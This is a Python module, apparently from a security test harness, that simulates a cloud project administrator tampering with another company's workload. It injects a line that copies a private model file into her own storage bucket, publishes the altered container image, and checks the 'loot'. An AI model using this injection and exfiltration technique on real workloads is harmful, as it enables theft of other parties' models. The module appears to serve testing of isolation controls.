"""Secundus' administrator with a workload of her own: Primus' code, and one more line.

She may do all of this: she owns the project, its repository and its machine. The line copies the
model into her bucket, and it works if her workload is admitted (`--loosen`).
"""

from __future__ import annotations

import hashlib
import shutil
from pathlib import Path
from typing import TYPE_CHECKING

from rehearsal.administrator import Admin, AdminError
from rehearsal.companies import COMPANIES
from rehearsal.image_builder.oci import Reference
from rehearsal.image_builder.push import push

if TYPE_CHECKING:
    from rehearsal.image_builder.oci import Image

REPOSITORY = "custom-image"
REGION = "us-west1"
MODULE = "job.py"
BEFORE = "            classify(as_operator(launch.input_bucket), classifier, checkpoints)\n"
LINE = (
    "            as_operator(bucket).write("
    '"stolen-model.tar.gz", Path(private) / "model.tar.gz", "application/gzip")\n'
)
STOLEN = "stolen-model.tar.gz"

PARENT = f"projects/{COMPANIES['secundus'].project}/locations/{REGION}"
REPOSITORIES = f"artifactregistry.googleapis.com/v1/{PARENT}/repositories"
PROJECT = f"cloudresourcemanager.googleapis.com/v1/projects/{COMPANIES['secundus'].project}"
SERVICE = (
    f"serviceusage.googleapis.com/v1/projects/{COMPANIES['secundus'].project}"
    "/services/artifactregistry.googleapis.com"
)
HERSELF = COMPANIES["secundus"].deployer
ROLE = "roles/artifactregistry.admin"


def copy(workload: Path, to: Path) -> Path:
    """A copy of the workload's folder to change; gives `to`."""
    return Path(shutil.copytree(workload, to, ignore=shutil.ignore_patterns("__pycache__")))


def change(workload: Path, to: Path) -> str:
    """Copy the workload's folder and add the line; gives the line, as a person would read it.

    ValueError if the workload no longer has the line's place.
    """
    module = copy(workload, to) / MODULE
    text = module.read_text()
    if text.count(BEFORE) != 1:
        raise ValueError(f"{MODULE} no longer has the line before which the impostor adds its own")
    module.write_text(text.replace(BEFORE, LINE + BEFORE))
    return LINE.strip()


def publish(admin: Admin, image: Image, runner: str) -> str:
    """Push the image to a repository of her own, readable by the machine's account `runner`.

    Gives the reference by digest.
    """
    admin.bind(PROJECT, ROLE, HERSELF)
    admin.call("POST", f"{SERVICE}:enable")
    admin.call("POST", f"{REPOSITORIES}?repositoryId={REPOSITORY}", {"format": "DOCKER"})
    admin.bind(
        f"{REPOSITORIES}/{REPOSITORY}", "roles/artifactregistry.reader", f"serviceAccount:{runner}"
    )
    name = f"{REGION}-docker.pkg.dev/{COMPANIES['secundus'].project}/{REPOSITORY}/workload"
    digest = push(image, Reference.parse(f"{name}:mine"), admin.token, admin.session)
    return f"{name}@{digest}"


def clean_up(admin: Admin) -> None:
    """Delete the repository and the grant that `publish` made."""
    admin.call("DELETE", f"{REPOSITORIES}/{REPOSITORY}")
    admin.unbind(PROJECT, ROLE, HERSELF)


def loot(admin: Admin, bucket: str) -> str | None:
    """The SHA-256 of the object that the added line wrote; None if there is none."""
    answer = admin.ask("GET", f"storage.googleapis.com/storage/v1/b/{bucket}/o/{STOLEN}?alt=media")
    if answer.status_code == NOT_FOUND:
        return None
    if not answer.ok:
        raise AdminError(f"reading gs://{bucket}/{STOLEN}: {answer.status_code}")
    return hashlib.sha256(answer.content).hexdigest()


NOT_FOUND = 404
